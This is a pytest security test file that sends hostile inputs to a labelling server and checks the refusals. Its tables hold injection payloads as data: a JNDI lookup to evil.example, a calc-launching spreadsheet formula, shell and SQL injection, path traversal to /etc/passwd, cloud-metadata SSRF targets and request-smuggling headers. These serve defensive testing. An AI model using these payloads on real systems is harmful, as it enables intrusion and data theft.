"""What a hostile caller sends to the server as a process of its own, and what comes back.

The tables here and in `tests/hostile.py` are those of `docs/security.md`.
"""

import re
import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest

from core.plans import Plan
from server import watchers
from tests import factories
from tests.environment import settings_of
from tests.hostile import MASKS, PICTURES
from tests.server.people import API, Person, Team, assemble
from tests.serving import Server, serving
from tests.waiting import until

pytestmark = pytest.mark.slow

# A loaded machine may take its time to answer.
PATIENT: dict[str, Any] = {"trust_env": False, "timeout": 60}
SPARE_BYTES = 50_000_000
JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def server(
    database_url: str, redis_url: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    values = {"database_url": database_url, "redis_url": redis_url, "log_level": "INFO",
              "decode_ceiling_s": 1}  # fmt: skip
    with settings_of(tmp_path_factory.mktemp("data"), **values) as environment:
        log: Path = tmp_path_factory.mktemp("server") / "server.log"
        with serving(environment, log) as started:
            yield started


@pytest.fixture(scope="module")
def team(server: Server) -> Iterator[Team]:
    with httpx.Client(base_url=server.url, **PATIENT) as client:
        made = assemble(client)  # type: ignore[arg-type]
        factories.labelling(made.project, made.admin.user, number=40)
        yield made


def said(answer: httpx.Response) -> str:
    """The status and, of a problem, its code; nothing of what is inside may be told."""
    if answer.status_code < 400:
        return str(answer.status_code)
    body = answer.json()
    assert answer.headers["content-type"] == "application/problem+json"
    assert body["request_id"] == answer.headers["x-request-id"]
    assert not any(word in answer.text for word in ("Traceback", "/tmp/", ".py", "sqlalchemy"))
    return f"{answer.status_code} {body['type'].removeprefix('/problems/')}"


@pytest.mark.parametrize("name", MASKS)
def test_masks(server: Server, team: Team, name: str):
    content, expected = MASKS[name]
    lease = team.annotator.lease(team.project)
    before = resident(server)
    answer = team.annotator.put_label(lease, content=content, headers={"Content-Type": "image/png"})
    assert said(answer) == expected
    assert resident(server) - before < SPARE_BYTES
    if expected == "201":
        kept = team.annotator.get(f"/regions/{lease['region_id']}/label").content
        assert len(kept) < 1000
        assert b"script" not in kept


@pytest.fixture(scope="module")
def predicting(team: Team) -> Team:
    """A team with a model that looks at pictures."""
    made = assemble(team.client)
    made.labelling(number=1)
    factories.submit(factories.lease(made.project, made.admin.user)[0])
    factories.train(factories.cycle(made.project, made.admin.user, Plan(regions=0)))
    return made


@pytest.mark.parametrize("name", PICTURES)
def test_pictures(server: Server, predicting: Team, name: str):
    content, expected = PICTURES[name]
    before = resident(server)
    answer = predicting.reviewer.post(f"{predicting.path}/predictions", content=content)
    assert said(answer) == expected
    assert resident(server) - before < SPARE_BYTES
    assert helpers(server) == []


def helpers(server: Server) -> list[psutil.Process]:
    """The server's processes that decode pictures."""
    assert server.process is not None
    found = psutil.Process(server.process.pid).children()
    return [each for each in found if "core.decoder" in each.cmdline()]


def resident(server: Server) -> int:
    assert server.process is not None
    size: int = psutil.Process(server.process.pid).memory_info().rss
    return size


DOCUMENTS: dict[str, tuple[bytes, str]] = {
    "a million brackets": (b"[" * 1_000_000, "422 validation_failed"),
    "10 MB": (b'{"name": "' + b"x" * 10_000_000 + b'"}', "413 too_large"),
    "a key twice": (b'{"name": "a", "name": "b"}', "422 validation_failed"),
    "NaN": (b'{"name": "a", "is_admin": NaN}', "422 validation_failed"),
    "1e400": (b'{"name": "a", "is_admin": 1e400}', "422 validation_failed"),
    "5,000 digits": (b'{"name": ' + b"1" * 5000 + b"}", "422 validation_failed"),
    "a byte order mark": (b'\xef\xbb\xbf{"name": "a"}', "422 validation_failed"),
    "UTF-16": ('{"name": "a"}'.encode("utf-16"), "422 validation_failed"),
    "invalid UTF-8": (b'{"name": "\xff"}', "422 validation_failed"),
    "half a character pair": (b'{"name": "\\ud800"}', "422 validation_failed"),
    "NUL": (b'{"name": "a\\u0000b"}', "422 validation_failed"),
    "a field nobody knows": (b'{"name": "a", "__proto__": {}}', "422 validation_failed"),
    "cut off": (b'{"name": "a"', "422 validation_failed"),
}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_json(team: Team, name: str):
    content, expected = DOCUMENTS[name]
    answer = team.site_admin.post("/users", content=content, headers=JSON)
    assert said(answer).replace("400 bad_request", "422 validation_failed") == expected


NAMES = {
    "right-to-left": "safe\u202egnp.exe",
    "four bytes": "😀𝕏",
    "a device": "CON",
    "markup": "<script>alert(1)</script>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a formula": '=cmd|"/C calc"!A0',
    "a template": "{{7*7}}",
    "a command": ";touch x",
    "a path": "../../etc/passwd",
    "SQL": "'; DROP TABLE users; --",
}


@pytest.mark.parametrize("name", NAMES)
def test_names_are_kept_as_they_are_and_never_parsed(team: Team, name: str):
    text = NAMES[name]
    made = team.site_admin.post("/users", {"name": text})
    assert said(made) == "201"
    assert made.json()["name"] == text
    classes = [{"value": n, "name": f"{text} {n}", "color": "#808080"} for n in range(2)]
    project = {"name": text, "cell_px": 10, "classes": classes, "recipe": factories.RECIPE}
    answer = team.site_admin.post("/projects", project)
    assert said(answer) in ("201", "422 validation_failed")
    if answer.status_code == 201:
        pages = [shown(team, "/"), shown(team, f"/projects/{answer.json()['id']}/annotate")]
        assert not any("<script>alert" in page for page in pages)
        assert not any("49" in page and name == "a template" for page in pages[1:])


def shown(team: Team, path: str) -> str:
    """The page as the site admin's browser gets it."""
    headers = {"Cookie": f"tessera_session={team.site_admin.token}"}
    page = httpx.get(f"{team.client.base_url}{path}", headers=headers, **PATIENT)
    assert page.status_code == 200
    return page.text


@pytest.mark.parametrize("text", ["", "a\nb", "a\x7f", "x" * 10_000, " "])
def test_names_that_no_one_could_read_are_refused(team: Team, text: str):
    assert said(team.site_admin.post("/users", {"name": text})) == "422 validation_failed"


DOTS = (
    *("../settings.py", "..%2fsettings.py", "%2e%2e/settings.py", "..%5csettings.py"),
    *("%252e%252e%252fsettings.py", "..%00/settings.py", "....//settings.py", "/etc/passwd"),
    "a" * 5000,
)


@pytest.mark.parametrize("dots", DOTS)
@pytest.mark.parametrize("root", ["/static/", "/static/annotate/", "/problems/"])
def test_no_path_leads_out_of_its_folder(server: Server, root: str, dots: str):
    asked = f"GET {root}{dots} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    status, text = spoken(server, asked.encode())
    assert status in (400, 404)
    assert "import" not in text


def spoken(server: Server, *parts: bytes) -> tuple[int, str]:
    """Status and text of the answer to these bytes, which no client would send."""
    port = httpx.URL(server.url).port
    with socket.create_connection(("127.0.0.1", port), timeout=60) as line:
        for part in parts:
            line.sendall(part)
        got = b""
        # Hanging up on bytes that were never read resets the line, after the answer.
        with suppress(ConnectionResetError):
            while more := line.recv(65536):
                got += more
    return int(got.split(b" ", 2)[1]), got.decode("latin-1")


def head(team: Team, *lines: str) -> bytes:
    first = [f"POST {API}/users HTTP/1.1", "Host: localhost", "Connection: close"]
    bearer = f"Authorization: Bearer {team.site_admin.token}"
    return "\r\n".join([*first, bearer, "Content-Type: application/json", *lines, "", ""]).encode()


# A body that was not announced is missing, or the start of a request that is none: as packets fall.
BODIES: dict[str, tuple[list[str], bytes, int]] = {
    "no length": ([], b'{"name": "a"}', 422),
    "a length that is no number": (["Content-Length: many"], b"{}", 400),
    "a negative length": (["Content-Length: -1"], b"{}", 400),
    "two lengths": (["Content-Length: 2", "Content-Length: 5"], b"{}xyz", 400),
    "a length and chunks": (["Content-Length: 2", "Transfer-Encoding: nonsense"], b"{}", 400),
    "chunks of no size": (["Transfer-Encoding: chunked"], b"zz\r\n{}\r\n0\r\n\r\n", 400),
}


@pytest.mark.parametrize("name", BODIES)
def test_bodies_that_lie_about_themselves(server: Server, team: Team, name: str):
    lines, body, expected = BODIES[name]
    assert spoken(server, head(team, *lines), body)[0] in (expected, 400, 501)
    assert httpx.get(f"{server.url}/health/live", **PATIENT).status_code == 200


def test_a_body_without_end_is_cut_off_and_others_are_served(server: Server, team: Team):
    def endless() -> Iterator[bytes]:
        for n in range(10_000):
            if n % 10 == 0:
                assert httpx.get(f"{server.url}/health/live", **PATIENT).status_code == 200
            yield b" " * 65_536

    try:
        answer = team.site_admin.post("/users", content=endless(), headers=JSON)
    except httpx.TransportError:
        return  # it hung up on us, which is as good
    assert said(answer) == "413 too_large"


@pytest.mark.parametrize("path", ["/static/base.css", "pixels"])
def test_ten_thousand_ranges_are_not_put_together(server: Server, team: Team, path: str):
    if path == "pixels":
        path = f"{API}/images/{team.annotator.lease(team.project)['image']['id']}/pixels"
    ranges = ",".join(f"{n}-{n}" for n in range(10_000))
    headers = {"Range": f"bytes={ranges}", "Authorization": f"Bearer {team.annotator.token}"}
    answer = httpx.get(f"{server.url}{path}", headers=headers, **PATIENT)
    assert answer.status_code in (200, 400, 416, 431)
    assert len(answer.content) < 100_000


RANGES: dict[str, tuple[str, str]] = {
    "bytes=0-0": ("bytes=0-0", "206"),
    "three times the whole": ("bytes=0-,0-,0-", "206"),
    "bytes=5-2": ("bytes=5-2", "400 bad_request"),
    "bytes=a-b": ("bytes=a-b", "400 bad_request"),
    "another unit than bytes": ("items=0-1", "400 bad_request"),
    "bytes=999999999-": ("bytes=999999999-", "416 range_not_satisfiable"),
}


@pytest.mark.parametrize("name", RANGES)
def test_ranges(team: Team, name: str):
    asked, expected = RANGES[name]
    path = f"/images/{team.annotator.lease(team.project)['image']['id']}/pixels"
    whole = team.annotator.get(path).content
    answer = team.annotator.get(path, headers={"Range": asked})
    assert said(answer) == expected
    assert len(answer.content) < 2 * len(whole)


# With a Host of its own, or more of them; what stands before the first space is the method.
ODD_REQUESTS: dict[str, tuple[str, str]] = {
    "two Hosts": ("GET /health/live|Host: localhost|Host: evil.example", "400"),
    "no Host": ("GET /health/live", "400"),
    "a Host with a name and a password": ("GET /|Host: a:b@localhost", "400"),
    "another server's name": ("GET /|Host: evil.example", "400"),
    "another server's URL": ("GET http://localhost/|Host: evil.example", "400"),
    "a tunnel": ("CONNECT evil.example:443|Host: localhost", "400"),
    "TRACE": ("TRACE /|Host: localhost", "405"),
    "a method that nobody knows": ("STEAL /|Host: localhost", "400"),
    "a path beside that of probes": ("GET /health/../api/v1/users|Host: evil.example", "404"),
    "a WebSocket": (
        "GET /|Host: localhost|Upgrade: websocket|Connection: Upgrade"
        "|Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==|Sec-WebSocket-Version: 13",
        "200",
    ),
    "5,000 headers": ("GET /|Host: localhost" + "|X: y" * 5000, "hangs up"),
    "a header of 1 MB": ("GET /|Host: localhost|X: " + "y" * 10**6, "431"),
    "a cookie of rubbish": ("GET /|Host: localhost|Cookie: tessera_session=\xff; ;;=;$a=b", "200"),
    "a token of rubbish": (
        "GET /api/v1/users/me|Host: localhost|Authorization: Bearer \xff",
        "401",
    ),
    "conditions of rubbish": (
        "GET /static/base.css|Host: localhost|If-None-Match: \xff,,W/"
        "|If-Modified-Since: 99 Foo 99999|If-Range: x",
        "200",
    ),
}


@pytest.mark.parametrize("name", ODD_REQUESTS)
def test_odd_requests(server: Server, name: str):
    asked, expected = ODD_REQUESTS[name]
    first, *lines = asked.split("|")
    sent = "\r\n".join([f"{first} HTTP/1.1", *lines, "Connection: close", "", ""])
    assert heard(server, sent.encode("latin-1")) == expected
    assert heard(server, b"GET /health/live HTTP/1.0\r\nHost: localhost\r\n\r\n") == "200"


def heard(server: Server, sent: bytes) -> str:
    """The status of the answer, if there is any."""
    try:
        return str(spoken(server, sent)[0])
    except (IndexError, BrokenPipeError, ConnectionResetError):
        return "hangs up"


def test_nobody_watches_without_end(server: Server, team: Team):
    with httpx.Client(base_url=server.url, **PATIENT) as client:
        with ExitStack() as streams:
            for _ in range(watchers.MOST):
                assert streams.enter_context(watched(client, team, team.reviewer)) == "200"
            assert streams.enter_context(watched(client, team, team.annotator)) == "200"
            with watched(client, team, team.reviewer) as one_more:
                assert one_more == "429 too_many_requests"
        until(lambda: watches_again(client, team))


@contextmanager
def watched(client: httpx.Client, team: Team, who: Person) -> Iterator[str]:
    """The answer to somebody who watches the project, until they leave."""
    headers = {"Authorization": f"Bearer {who.token}"}
    with client.stream("GET", f"{API}{team.path}/events", headers=headers) as answer:
        if answer.status_code != 200:
            answer.read()
        yield said(answer)


def watches_again(client: httpx.Client, team: Team) -> bool:
    with watched(client, team, team.reviewer) as answer:
        return answer == "200"


PLACES = (
    *("file:///etc/passwd", "gopher://127.0.0.1/", "http://169.254.169.254/latest", "/etc"),
    *("s3://bucket/images", "../../etc", "\\\\host\\share", "/proc/self/environ", "a\0b"),
)


@pytest.mark.parametrize("place", PLACES)
def test_nothing_is_imported_but_from_the_folders_that_may(team: Team, place: str):
    answer = team.admin.post(f"{team.path}/imports", {"path": place})
    assert said(answer) in ("422 path_not_allowed", "422 validation_failed", "422 layout_unknown")


def test_no_secret_is_written_to_the_log(server: Server, team: Team):
    password = "a password for the log"
    assert team.reviewer.put("/users/me/password", {"password": password}).status_code == 204
    data = {"name": team.reviewer.user.name, "password": password}
    page = {"Sec-Fetch-Site": "same-origin"}
    signed = httpx.post(f"{server.url}/sign-in", data=data, headers=page, **PATIENT)
    assert signed.status_code == 303
    log = server._log.read_text()
    assert "/sign-in" in log
    secrets = (password, team.reviewer.token, signed.cookies["tessera_session"])
    assert not any(secret in log for secret in secrets)


DOCUMENT = Path(__file__).parents[2] / "docs" / "security.md"


def test_the_document_lists_these_inputs_with_these_answers():
    listed = DOCUMENT.read_text()
    tables = {**MASKS, **PICTURES, **DOCUMENTS, **RANGES, **ODD_REQUESTS}
    missing = [row(name, answer) for name, (_, answer) in tables.items()]
    assert [each for each in missing if each not in listed] == []


def test_the_document_names_tests_that_there_are():
    named = re.findall(r"`(tests/[\w/]+\.py)(?:::(\w+))?`", DOCUMENT.read_text())
    assert len(named) > 30
    root = DOCUMENT.parents[1]
    missing = [each for each in named if not (root / each[0]).is_file()
               or f"def {each[1]}" not in (root / each[0]).read_text()]  # fmt: skip
    assert missing == []


def row(name: str, answer: str) -> str:
    return f"| {name} | {answer} |"
